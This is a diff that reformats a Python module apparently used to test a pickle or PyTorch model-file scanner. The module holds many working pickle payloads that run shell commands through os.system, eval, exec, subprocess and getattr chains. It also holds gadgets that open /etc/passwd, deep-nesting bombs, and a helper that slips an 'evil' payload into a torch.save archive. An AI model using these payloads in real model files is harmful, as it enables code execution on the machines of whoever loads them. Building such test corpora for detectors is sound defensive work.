@@ -36,7 +36,10 @@ SYSTEM = named("posix", "system")
 def _load_from_bytes(command: str) -> bytes:
     inner = pickle.PROTO + b"\x02" + called(SYSTEM, text(command)) + b"."
     held = archive(inner)
-    return called(named("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(held)) + held)
+    return called(
+        named("torch.storage", "_load_from_bytes"),
+        b"B" + struct.pack("<I", len(held)) + held,
+    )
 
 
 def _set_state(command: str) -> bytes:
@@ -46,13 +49,17 @@ def _set_state(command: str) -> bytes:
 
 
 def _extension(command: str) -> bytes:
-    added = called(named("copyreg", "add_extension"), text("posix"), text("system"), b"K\x7f")
+    added = called(
+        named("copyreg", "add_extension"), text("posix"), text("system"), b"K\x7f"
+    )
     return added + b"0\x82\x7f(" + text(command) + b"tR"
 
 
 def _through_getattr(command: str) -> bytes:
     module = called(named("builtins", "__import__"), text("os"))
-    return called(called(named("builtins", "getattr"), module, text("system")), text(command))
+    return called(
+        called(named("builtins", "getattr"), module, text("system")), text(command)
+    )
 
 
 def _lazily(command: str) -> bytes:
@@ -68,7 +75,9 @@ def _method(command: str) -> bytes:
 
 RUNNING: Mapping[str, Callable[[str], bytes]] = {
     "os.system": lambda command: called(SYSTEM, text(command)),
-    "eval": lambda command: called(named("builtins", "eval"), text(f"__import__('os').system({command!r})")),
+    "eval": lambda command: called(
+        named("builtins", "eval"), text(f"__import__('os').system({command!r})")
+    ),
     "exec by INST": lambda command: (
         b"(" + text(f"__import__('os').system({command!r})") + b"ibuiltins\nexec\n"
     ),
@@ -76,23 +85,35 @@ RUNNING: Mapping[str, Callable[[str], bytes]] = {
         named("__builtin__", "eval"), text(f"__import__('os').system({command!r})")
     ),
     "subprocess.Popen": lambda command: called(
-        named("subprocess", "check_call"), b"]" + b"".join(text(w) + b"a" for w in command.split())
+        named("subprocess", "check_call"),
+        b"]" + b"".join(text(w) + b"a" for w in command.split()),
     ),
     "getattr chain": _through_getattr,
-    "pathlib's os": lambda command: called(by_stack(Path.__module__, "os.system"), text(command)),
-    "argparse's _os": lambda command: called(by_stack("argparse", "_os.system"), text(command)),
-    "torch's sys": lambda command: called(by_stack("torch", "os.system"), text(command)),
+    "pathlib's os": lambda command: called(
+        by_stack(Path.__module__, "os.system"), text(command)
+    ),
+    "argparse's _os": lambda command: called(
+        by_stack("argparse", "_os.system"), text(command)
+    ),
+    "torch's sys": lambda command: called(
+        by_stack("torch", "os.system"), text(command)
+    ),
     "torch.storage": _load_from_bytes,
     "numpy's runstring": lambda command: called(
-        named("numpy.testing._private.utils", "runstring"), text(f"import os; os.system({command!r})"), b"}"
+        named("numpy.testing._private.utils", "runstring"),
+        text(f"import os; os.system({command!r})"),
+        b"}",
     ),
     "copyreg and EXT1": _extension,
     "BUILD of __setstate__": _set_state,
     "NEWOBJ_EX": _lazily,
     "methodcaller": _method,
-    "OBJ": lambda command: b"(" + SYSTEM.replace(b"posix", b"os") + text(command) + b"o",
+    "OBJ": lambda command: (
+        b"(" + SYSTEM.replace(b"posix", b"os") + text(command) + b"o"
+    ),
     "pickle in a pickle": lambda command: called(
-        named("pickle", "loads"), b"B" + _sized(pickle.PROTO + b"\x04" + called(SYSTEM, text(command)) + b".")
+        named("pickle", "loads"),
+        b"B" + _sized(pickle.PROTO + b"\x04" + called(SYSTEM, text(command)) + b"."),
     ),
 }
 """Name -> a body that runs a command. (That they all do is tested, too.)"""
@@ -114,12 +135,18 @@ QUIET: Mapping[str, bytes] = {
     + text("__reduce__")
     + b"K\x01sb",
     "copyreg._reconstructor": called(
-        named("copyreg", "_reconstructor"), named("os", "_Environ"), named("builtins", "object"), b"N"
+        named("copyreg", "_reconstructor"),
+        named("os", "_Environ"),
+        named("builtins", "object"),
+        b"N",
     ),
     "EXT4": b"\x84\xff\xff\xff\x7f",
     "an open file": called(named("io", "open"), text("/etc/passwd")),
     "a numpy subclass": called(
-        named("numpy.core.multiarray", "_reconstruct"), named("numpy", "memmap"), b"K\x00\x85", b"C\x01b"
+        named("numpy.core.multiarray", "_reconstruct"),
+        named("numpy", "memmap"),
+        b"K\x00\x85",
+        b"C\x01b",
     ),
     "a codec that runs": called(named("_codecs", "decode"), text("x"), text("rot13")),
 }
@@ -149,7 +176,10 @@ BOMBS: Mapping[str, bytes] = {
 _DEEP = b"N" + b"\x85" * 100_000
 GADGETS: Mapping[str, bytes] = {
     "a set of what is deep": named("builtins", "set") + b"]" + _DEEP + b"a\x85R",
-    "an ordered dict of what is deep": named("collections", "OrderedDict") + b"]" + _DEEP + b"N\x86a\x85R",
+    "an ordered dict of what is deep": named("collections", "OrderedDict")
+    + b"]"
+    + _DEEP
+    + b"N\x86a\x85R",
     "a layout that is shared": called(
         named("torch.serialization", "_get_layout"), BOMBS["shared 60 times over"]
     ),
@@ -168,12 +198,16 @@ def slipped(data: bytes, body: bytes) -> bytes:
         members = {name.partition("/")[2]: file.read(name) for name in file.namelist()}
     pickled = members["data.pkl"][:-1] + text("evil") + body + b"s."
     kept = {
-        name.removeprefix("data/"): content for name, content in members.items() if name.startswith("data/")
+        name.removeprefix("data/"): content
+        for name, content in members.items()
+        if name.startswith("data/")
     }
     return archive(pickled, storages=kept)
 
 
-def archive(pickled: bytes, *, packed: bool = False, storages: Mapping[str, bytes] | None = None) -> bytes:
+def archive(
+    pickled: bytes, *, packed: bool = False, storages: Mapping[str, bytes] | None = None
+) -> bytes:
     """What torch.save would frame it with."""
     buffer = io.BytesIO()
     how = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
